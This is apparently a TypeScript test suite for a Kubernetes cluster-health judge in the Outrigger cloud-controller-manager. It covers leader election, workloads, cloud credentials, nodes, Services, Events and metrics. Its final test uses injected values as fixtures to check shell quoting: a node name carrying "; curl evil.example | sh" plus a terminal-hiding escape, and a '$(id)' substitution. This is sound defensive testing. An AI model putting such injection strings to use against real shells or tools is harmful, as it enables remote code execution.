// Over 400 lines: one cluster, and one test for each thing that can be wrong with it.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { CoreEvent, Node, Service } from '@outrigger/kube';
import { TestAuthority } from '../../controller-manager/src/access/test-authority.suite.ts';
import type { ClusterFacts } from './cluster-facts.ts';
import type { Problem } from './cluster-status.ts';
import { judgeCluster } from './judge-cluster.ts';

const AT = Date.parse('2026-11-23T10:00:00Z');

function ago(seconds: number): string {
  return new Date(AT - seconds * 1000).toISOString();
}

const METRICS = `# HELP outrigger_node_deletions_held Nodes
outrigger_node_deletions_held 0
outrigger_node_deletions_unproved 0
outrigger_route_removals_held 0
kubernetes_build_info{git_version="v0.1.0",compiler="v8"} 1
process_start_time_seconds ${AT / 1000 - 3600}
running_managed_controllers{name="cloud-node-controller",manager="cloud-controller-manager"} 1
running_managed_controllers{name="service-lb-controller",manager="cloud-controller-manager"} 1
running_managed_controllers{name="node-route-controller",manager="cloud-controller-manager"} 0
outrigger_cloud_answers{provider="acme",service="compute"} 1
cloudprovider_api_requests_total{code="ok",operation="GET /servers",provider="acme"} 90
cloudprovider_api_requests_total{code="timeout",operation="GET /servers",provider="acme"} 10
cloudprovider_api_throttled_requests_total{operation="GET /servers",provider="acme"} 3
cloudprovider_api_in_flight_requests{provider="acme"} 2
cloudprovider_api_budget_wait_seconds_bucket{le="0.1",priority="normal",provider="acme"} 80
cloudprovider_api_budget_wait_seconds_bucket{le="1.024",priority="normal",provider="acme"} 95
cloudprovider_api_budget_wait_seconds_bucket{le="+Inf",priority="normal",provider="acme"} 100
cloudprovider_api_budget_wait_seconds_count{priority="normal",provider="acme"} 100
`;
const READYZ = '[+]ping ok\n[+]cloud-acme ok\nreadyz check passed\n';

const healthy: ClusterFacts = {
  at: AT,
  server: 'https://api.example:6443',
  namespace: 'kube-system',
  leaseName: 'cloud-controller-manager',
  lease: {
    value: {
      spec: {
        holderIdentity: 'control-1_abc',
        renewTime: ago(1),
        acquireTime: ago(3600),
        leaseDurationSeconds: 15,
        leaseTransitions: 2,
      },
    },
  },
  workloads: {
    value: [
      {
        apiVersion: 'apps/v1',
        kind: 'DaemonSet',
        metadata: { namespace: 'kube-system', name: 'ccm' },
        spec: { template: { spec: { containers: [{ image: 'registry:5000/outrigger/ccm:v0.1.0' }] } } },
        status: { desiredNumberScheduled: 3, numberReady: 3, updatedNumberScheduled: 3 },
      },
    ],
  },
  pods: { value: [] },
  nodes: { value: [node('worker-1', 100), node('worker-2', 100)] },
  services: { value: [service('web', 100, { ingress: [{ ip: '203.0.113.1' }] })] },
  events: { value: [] },
  webhooks: { value: [] },
  certificates: new Map(),
  readyz: { value: { status: 200, text: READYZ } },
  metrics: { value: { status: 200, text: METRICS } },
  plans: new Map(),
};

function node(name: string, age: number, tainted = false): Node {
  return {
    metadata: { name, uid: `uid-${name}`, creationTimestamp: ago(age) },
    spec: tainted
      ? { taints: [{ key: 'node.cloudprovider.kubernetes.io/uninitialized', effect: 'NoSchedule', value: 'true' }] }
      : {},
  };
}

function service(
  name: string,
  age: number,
  loadBalancer: NonNullable<Service['status']>['loadBalancer'] = {},
): Service {
  return {
    metadata: { namespace: 'default', name, uid: `uid-${name}`, creationTimestamp: ago(age) },
    spec: { type: 'LoadBalancer' },
    status: { loadBalancer },
  };
}

function event(kind: string, name: string, reason: string, age: number, type = 'Warning'): CoreEvent {
  return {
    metadata: { name: `${name}.${reason}` },
    involvedObject: { kind, name, uid: `uid-${name}`, ...(kind === 'Service' && { namespace: 'default' }) },
    type,
    reason,
    message: `Because of ${reason}`,
    lastTimestamp: ago(age),
    source: { component: kind === 'Node' ? 'cloud-node-controller' : 'service-lb-controller' },
  };
}

/** As one who may write Events there alone can have it: the API server wants both namespaces to be the same. */
function inNamespace(namespace: string, given: CoreEvent): CoreEvent {
  const { involvedObject, metadata } = given;
  return { ...given, metadata: { ...metadata, namespace }, involvedObject: { ...involvedObject, namespace } };
}

/** With the condition that the manager keeps. */
function withCondition(one: Service, reason: string, age: number): Service {
  const condition = {
    type: 'LoadBalancerReady',
    status: reason === 'Ready' ? 'True' : 'False',
    reason,
    message: `Because of ${reason}`,
    lastTransitionTime: ago(age),
  };
  return { ...one, status: { ...one.status, conditions: [condition] } };
}

/** Section, what it is about, and the runbook of each. */
function told(problems: readonly Problem[]): readonly string[] {
  return problems.map(({ about = '', runbook = '', section }) => [section, about, runbook].join('|'));
}

test('a start that is no time is left out', () => {
  for (const value of ['+Inf', 'NaN', '1e300']) {
    const text = METRICS.replace(/^process_start_time_seconds .*$/mu, `process_start_time_seconds ${value}`);
    const { process } = judgeCluster({ ...healthy, metrics: { value: { status: 200, text } } });
    assert.ok('value' in process && !('startedAt' in process.value), value);
  }
});

test('a cluster in which all was read and nothing is wrong is healthy', () => {
  const status = judgeCluster(healthy);
  assert.deepEqual([status.state, status.problems], ['healthy', []]);
  assert.deepEqual(status.leader, {
    value: {
      lease: 'kube-system/cloud-controller-manager',
      holder: 'control-1_abc',
      host: 'control-1',
      holds: true,
      renewedAt: ago(1),
      since: ago(3600),
      transitions: 2,
    },
  });
  assert.deepEqual(status.process, {
    value: {
      program: 'outrigger',
      version: 'v0.1.0',
      startedAt: ago(3600),
      controllers: ['cloud-node-controller', 'service-lb-controller'],
      hanging: 0,
    },
  });
  assert.deepEqual(status.clouds, { value: [{ provider: 'acme', service: 'compute', answers: true }] });
  assert.deepEqual(status.budget, {
    value: [{ provider: 'acme', requests: 100, failed: 10, throttled: 3, inFlight: 2, waited: 5 }],
  });
  assert.ok('value' in status.workloads);
  assert.deepEqual([status.workloads.value[0]?.version, status.workloads.value[0]?.ready], ['v0.1.0', 3]);
});

/** What is wrong, with what it is told as. */
const wrong: readonly (readonly [what: string, facts: Partial<ClusterFacts>, told: readonly string[]])[] = [
  ['no Lease', { lease: { value: undefined }, metrics: { unknown: 'x' } }, ['leader||OutriggerNoLeader']],
  ['nobody holds it', { lease: { value: { spec: { holderIdentity: '' } } } }, ['leader||OutriggerNoLeader']],
  [
    'its holder is gone',
    { lease: { value: { spec: { holderIdentity: 'a_b', renewTime: ago(21), leaseDurationSeconds: 15 } } } },
    ['leader||OutriggerNoLeader'],
  ],
  [
    'a Pod is not ready',
    {
      workloads: {
        value: [
          {
            kind: 'Deployment',
            metadata: { namespace: 'a', name: 'ccm' },
            spec: { replicas: 2 },
            status: { readyReplicas: 1 },
          },
        ],
      },
    },
    ['workloads|Deployment a/ccm|'],
  ],
  [
    'none is ready',
    {
      workloads: {
        value: [
          { kind: 'DaemonSet', metadata: { namespace: 'a', name: 'ccm' }, status: { desiredNumberScheduled: 1 } },
        ],
      },
    },
    ['workloads|DaemonSet a/ccm|OutriggerDown'],
  ],
  [
    'the leader is not ready',
    {
      readyz: {
        value: { status: 500, text: '[+]ping ok\n[-]informer-sync failed: reason withheld\nreadyz check failed\n' },
      },
    },
    ['health||OutriggerDown'],
  ],
  [
    'the cloud refuses the credentials, as health tells',
    {
      readyz: {
        value: {
          status: 200,
          text: `[+]cloud-acme ok (failing: compute: unauthenticated since ${ago(60)}, network: timeout since ${ago(9)})\n`,
        },
      },
    },
    ['clouds|Cloud acme, compute|OutriggerCloudCallsFailing', 'clouds|Cloud acme, network|OutriggerCloudCallsFailing'],
  ],
  [
    'the same, as the metric tells',
    {
      readyz: { unknown: 'x' },
      metrics: { value: { status: 200, text: METRICS.replace('service="compute"} 1', 'service="compute"} 0') } },
    },
    ['clouds|Cloud acme, compute|OutriggerCloudCallsFailing'],
  ],
  [
    'the same, as the Event tells, where no page is read',
    {
      readyz: { unknown: 'x' },
      metrics: { unknown: 'x' },
      events: { value: [event('Namespace', 'kube-system', 'CloudCredentialsRefused', 9)] },
    },
    ['clouds||OutriggerCloudCallsFailing'],
  ],
  [
    'a node waits',
    { nodes: { value: [node('a', 61, true), node('b', 59, true)] } },
    ['nodes|Node a|OutriggerNodesUninitialized'],
  ],
  [
    'deletions are held',
    { metrics: { value: { status: 200, text: METRICS.replace('deletions_held 0', 'deletions_held 4') } } },
    ['deletions||OutriggerNodeDeletionsHeld'],
  ],
  [
    'removals of routes are held',
    { metrics: { value: { status: 200, text: METRICS.replace('removals_held 0', 'removals_held 4') } } },
    ['routes||OutriggerRouteRemovalsHeld'],
  ],
  [
    'orphans',
    { metrics: { value: { status: 200, text: `${METRICS}outrigger_orphans{kind="address"} 2\n` } } },
    ['orphans||OutriggerOrphans'],
  ],
  [
    'a Service has no address for a minute',
    { services: { value: [service('late', 61), service('new', 59)] } },
    ['services|Service default/late|OutriggerServiceSyncFailing'],
  ],
  [
    'a new Service was refused',
    {
      services: { value: [service('new', 2)] },
      events: { value: [event('Service', 'new', 'SyncLoadBalancerFailed', 1)] },
    },
    ['services|Service default/new|OutriggerServiceSyncFailing'],
  ],
  [
    'a Service with an address could not be updated since',
    {
      events: {
        value: [
          event('Service', 'web', 'EnsuredLoadBalancer', 50, 'Normal'),
          event('Service', 'web', 'UpdateLoadBalancerFailed', 9),
        ],
      },
    },
    ['services|Service default/web|OutriggerServiceSyncFailing'],
  ],
  [
    'a new Service is refused, as its condition says',
    { services: { value: [withCondition(service('new', 2), 'QuotaExceeded', 1)] } },
    ['services|Service default/new|OutriggerServiceSyncFailing'],
  ],
  [
    'a Service with an address waits for a part, as its condition says',
    {
      services: {
        value: [
          withCondition(service('old', 900, { ingress: [{ ip: '203.0.113.1' }] }), 'WaitingForPart', 70),
          withCondition(service('new', 900, { ingress: [{ ip: '203.0.113.2' }] }), 'WaitingForPart', 50),
        ],
      },
    },
    ['services|Service default/old|OutriggerServiceSyncFailing'],
  ],
  [
    'a Service is not let go',
    {
      services: {
        value: [
          {
            ...service('web', 900, { ingress: [{ ip: '203.0.113.1' }] }),
            metadata: { namespace: 'default', name: 'web', deletionTimestamp: ago(70) },
          },
        ],
      },
    },
    ['services|Service default/web|OutriggerServiceSyncFailing'],
  ],
  [
    'a webhook without an authority',
    {
      webhooks: {
        value: [
          {
            kind: 'ValidatingWebhookConfiguration',
            metadata: { name: 'w' },
            webhooks: [{ name: 'service.outrigger.dev' }],
          },
        ],
      },
    },
    ['webhooks|ValidatingWebhookConfiguration w|'],
  ],
  [
    'a reconcile hangs',
    { metrics: { value: { status: 200, text: `${METRICS}outrigger_reconciles_hanging{controller="a"} 1\n` } } },
    ['process||OutriggerReconcilesFailing'],
  ],
];

for (const [what, facts, expected] of wrong) {
  test(`a problem: ${what}`, () => {
    const { problems, state } = judgeCluster({ ...healthy, ...facts });
    assert.deepEqual(told(problems), expected);
    assert.equal(state, 'problems');
    for (const { commands, message, remedy } of problems) {
      assert.match(message, /^[A-Z0-9]/u);
      assert.ok(commands.length > 0 || remedy !== undefined, 'each problem says what to do');
    }
  });
}

/** What is as it should be, though it looks like what is not. */
const fine: readonly (readonly [what: string, facts: Partial<ClusterFacts>])[] = [
  [
    'an Event about the cloud in a namespace of a tenant, where no page is read',
    {
      readyz: { value: { status: 200, text: '[+]ping ok\n' } },
      metrics: { value: { status: 200, text: METRICS.replaceAll(/^outrigger_cloud_answers.*\n/gmu, '') } },
      events: { value: [inNamespace('a-tenant', event('Namespace', 'kube-system', 'CloudUnreachable', 9))] },
    },
  ],
  [
    'an Event of another program that calls its reason as ours does, where no page is read',
    {
      readyz: { value: { status: 200, text: '[+]ping ok\n' } },
      metrics: { value: { status: 200, text: METRICS.replaceAll(/^outrigger_cloud_answers.*\n/gmu, '') } },
      events: {
        value: [{ ...event('Namespace', 'kube-system', 'CloudUnreachable', 9), source: { component: 'kubelet' } }],
      },
    },
  ],
  [
    'an Event that has the UID of a Service of another namespace, or of a node',
    {
      nodes: { value: [node('worker-1', 5, true)] },
      services: { value: [service('web', 5)] },
      events: {
        value: [
          inNamespace('a-tenant', event('Service', 'web', 'SyncLoadBalancerFailed', 1)),
          { ...event('Service', 'web', 'SyncLoadBalancerFailed', 1), involvedObject: { uid: 'uid-web' } },
          inNamespace('a-tenant', event('Node', 'worker-1', 'InstanceNotFound', 1)),
        ],
      },
    },
  ],
  [
    'a failure that was mended',
    {
      events: {
        value: [
          event('Service', 'web', 'SyncLoadBalancerFailed', 50),
          event('Service', 'web', 'EnsuredLoadBalancer', 9, 'Normal'),
        ],
      },
    },
  ],
  [
    'a node and a Service that have just been created',
    { nodes: { value: [node('a', 5, true)] }, services: { value: [service('b', 5)] } },
  ],
  [
    'a failure that was mended, as the condition says, which is newer than any Event',
    {
      services: { value: [withCondition(service('web', 900, { ingress: [{ ip: '203.0.113.1' }] }), 'Ready', 9)] },
      events: { value: [event('Service', 'web', 'SyncLoadBalancerFailed', 5)] },
    },
  ],
  [
    'a new Service whose load balancer is being made',
    { services: { value: [withCondition(service('web', 20), 'Provisioning', 19)] } },
  ],
  [
    'a Service that another controller looks after',
    { services: { value: [withCondition(service('web', 900), 'ImplementedElsewhere', 899)] } },
  ],
  [
    'a Service whose class another controller may serve',
    {
      services: {
        value: [{ ...service('a', 900), spec: { type: 'LoadBalancer', loadBalancerClass: 'metallb.io/metallb' } }],
      },
    },
  ],
  [
    'an Event of a kubelet',
    {
      nodes: { value: [node('a', 5, true)] },
      events: { value: [{ ...event('Node', 'a', 'InvalidDiskCapacity', 1), source: { component: 'kubelet' } }] },
    },
  ],
  ['without a Lease, a named manager that runs with --leader-elect=false', { lease: { value: undefined } }],
  [
    'an Event of a cloud that the leader says answers',
    { events: { value: [event('Namespace', 'kube-system', 'CloudUnreachable', 9)] } },
  ],
];

for (const [what, facts] of fine) {
  test(`no problem: ${what}`, () => {
    const { problems, state } = judgeCluster({ ...healthy, ...facts });
    assert.deepEqual([state, problems], ['healthy', []]);
  });
}

test('why a node and a Service wait is said by the leader, else by the newest Event', () => {
  const facts: ClusterFacts = {
    ...healthy,
    nodes: { value: [node('a', 90, true), node('b', 80, true)] },
    services: { value: [service('web', 90)] },
    events: {
      value: [
        event('Node', 'a', 'Old', 50),
        event('Node', 'a', 'InstanceNotFound', 9),
        event('Service', 'web', 'LoadBalancerStuck', 9),
      ],
    },
    plans: new Map([['node/b', 'It waits for the cloud']]),
  };
  const { nodes, services } = judgeCluster(facts);
  assert.ok('value' in nodes && 'value' in services);
  assert.deepEqual(
    nodes.value.waiting.map(({ name, reason, waitedSeconds }) => [name, waitedSeconds, reason]),
    [
      ['a', 90, 'Because of InstanceNotFound'],
      ['b', 80, 'It waits for the cloud'],
    ],
  );
  assert.deepEqual(
    services.value.waiting.map(({ message, reason, state }) => [state, reason, message]),
    [['pending', 'LoadBalancerStuck', 'Because of LoadBalancerStuck']],
  );
});

test('of a text of an Event or a condition a thousand characters are shown, whatever whoever writes them puts into it', () => {
  const long = 'x'.repeat(1_000_000);
  const about = (kind: string, name: string, reason: string): CoreEvent => ({
    ...event(kind, name, reason, 9),
    message: long,
  });
  const failing = withCondition(service('told', 90), 'Failed', 9);
  const [condition] = failing.status?.conditions ?? [];
  assert.ok(condition);
  const status = judgeCluster({
    ...healthy,
    nodes: { value: [node('a', 90, true)] },
    services: {
      value: [
        service('web', 90),
        { ...failing, status: { conditions: [{ ...condition, message: long, reason: long }] } },
      ],
    },
    events: {
      value: [
        about('Node', 'a', 'InstanceNotFound'),
        about('Service', 'web', long),
        about('Namespace', 'kube-system', 'CloudUnreachable'),
      ],
    },
    readyz: { unknown: 'no' },
    metrics: { unknown: 'no' },
  });
  const shown = `${'x'.repeat(1_000)}…`;
  const { nodes, problems, services } = status;
  assert.ok('value' in nodes && 'value' in services);
  assert.deepEqual(
    [
      ...nodes.value.waiting.map(({ reason }) => reason),
      ...services.value.waiting.flatMap(({ message, reason }) => [reason, message]),
    ],
    Array(5).fill(shown),
  );
  assert.ok(problems.some(({ message, section }) => section === 'clouds' && message === shown));
  assert.ok(JSON.stringify(status).length < 20_000);
});

test('what could not be read is unknown with the reason, and never healthy', () => {
  for (const name of ['lease', 'workloads', 'nodes', 'services', 'events', 'webhooks', 'metrics', 'readyz'] as const) {
    const status = judgeCluster({ ...healthy, [name]: { unknown: `no ${name}` } });
    assert.deepEqual([status.state, status.problems], ['unknown', []], name);
    assert.match(JSON.stringify(status), new RegExp(`"unknown":"no ${name}"`, 'u'));
  }
});

test('one replica that does not tell what it serves leaves the cluster unknown', async () => {
  const valid = [AT, AT + 100 * 86_400_000] as const;
  const caBundle = Buffer.from((await TestAuthority.create('CN=ca', { valid })).pem).toString('base64');
  const clientConfig = { caBundle, service: { name: 'ccm', namespace: 'kube-system' } };
  const { problems, state } = judgeCluster({
    ...healthy,
    webhooks: { value: [{ metadata: { name: 'w' }, webhooks: [{ name: 'a', clientConfig }] }] },
    certificates: new Map([['ccm.kube-system.svc', [{ replica: 'Pod kube-system/a', pem: { unknown: 'refused' } }]]]),
  });
  assert.deepEqual([state, problems], ['unknown', []]);
});

test('of another program what only Outrigger reports is left out, and the rest is judged', () => {
  const text = METRICS.replaceAll(/^.*outrigger_.*\n/gmu, '');
  const status = judgeCluster({
    ...healthy,
    metrics: { value: { status: 200, text } },
    readyz: { value: { status: 200, text: '[+]ping ok\n' } },
  });
  assert.equal(status.state, 'healthy');
  for (const section of ['clouds', 'deletions', 'routes', 'orphans', 'budget'] as const) {
    assert.ok('notReported' in status[section], section);
  }
  assert.ok('value' in status.process);
  assert.equal(status.process.value.program, 'other');
});

test('of many problems of one kind the first are told, and the others counted', () => {
  const nodes = Array.from({ length: 25 }, (_, i) => node(`n-${i}`, 900, true));
  const { problems } = judgeCluster({ ...healthy, nodes: { value: nodes } });
  assert.equal(problems.length, 21);
  assert.equal(problems.at(-1)?.message, '5 more nodes with a problem.');
});

test('a command has no more than words: what others wrote is quoted for a shell, and a provider has the form of one', () => {
  const hostile = "acme; curl evil.example | sh #'\u001B[8m";
  const { clouds, problems } = judgeCluster({
    ...healthy,
    nodes: { value: [node(hostile, 900, true)] },
    readyz: {
      value: { status: 200, text: `[+]cloud-$(id) ok (failing: compute: unauthenticated since ${ago(60)})\n` },
    },
    metrics: {
      value: { status: 200, text: `${METRICS}outrigger_cloud_answers{provider="${hostile}",service=""} 0\n` },
    },
  });
  assert.deepEqual(clouds, { value: [{ provider: 'acme', service: 'compute', answers: true }] });
  const quoted = `'acme; curl evil.example | sh #'\\''\u001B[8m'`;
  assert.deepEqual(
    problems.flatMap(({ commands }) => commands),
    [`outrigger explain node ${quoted}`, `kubectl describe node ${quoted}`],
  );
});
